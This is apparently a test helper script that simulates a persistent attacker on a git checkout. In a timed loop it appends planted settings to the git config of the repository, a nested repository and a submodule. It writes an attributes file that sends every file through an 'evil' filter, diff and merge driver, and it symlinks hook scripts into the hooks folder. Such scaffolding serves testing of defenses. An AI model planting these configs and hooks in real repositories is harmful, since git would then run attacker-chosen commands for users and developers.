"""Stays alive and keeps planting settings in a git folder, and in those of nested repositories:
`live.py WORLD COPY NAME [SECONDS]`. It has no environment, no parent and another folder."""

import os
import sys
import time

world, copy, name = sys.argv[1:4]
end = time.time() + float(sys.argv[4] if len(sys.argv) > 4 else 15)
with open(f"{world}/s/planted") as file:
    settings = file.read()


def plant(folder):
    config = f"{folder}/config"
    with open(config, errors="replace") as file:
        planted = "evil" in file.read()
    if not planted:
        with open(config, "a") as file:
            file.write(settings)
    if not os.path.exists(f"{folder}/info/attributes"):
        os.makedirs(f"{folder}/info", exist_ok=True)
        with open(f"{folder}/info/attributes", "w") as file:
            file.write("* filter=evil diff=evil merge=evil\n")
    if not os.path.exists(f"{folder}/hooks/post-index-change"):
        os.makedirs(f"{folder}/hooks", exist_ok=True)
        for hook in os.listdir(f"{world}/s/hooks"):
            if not os.path.lexists(f"{folder}/hooks/{hook}"):
                os.symlink(f"{world}/s/hooks/{hook}", f"{folder}/hooks/{hook}")


with open(f"{world}/notes/live-{name}", "w") as file:
    file.write("x")
while time.time() < end:
    for folder in [f"{copy}/.git", f"{copy}/lib/.git", f"{copy}/.git/modules/lib"]:
        try:
            plant(folder)
        except OSError:
            pass
    try:
        for entry in os.listdir(copy):
            if entry.endswith(".txt"):
                os.utime(f"{copy}/{entry}")
    except OSError:
        pass
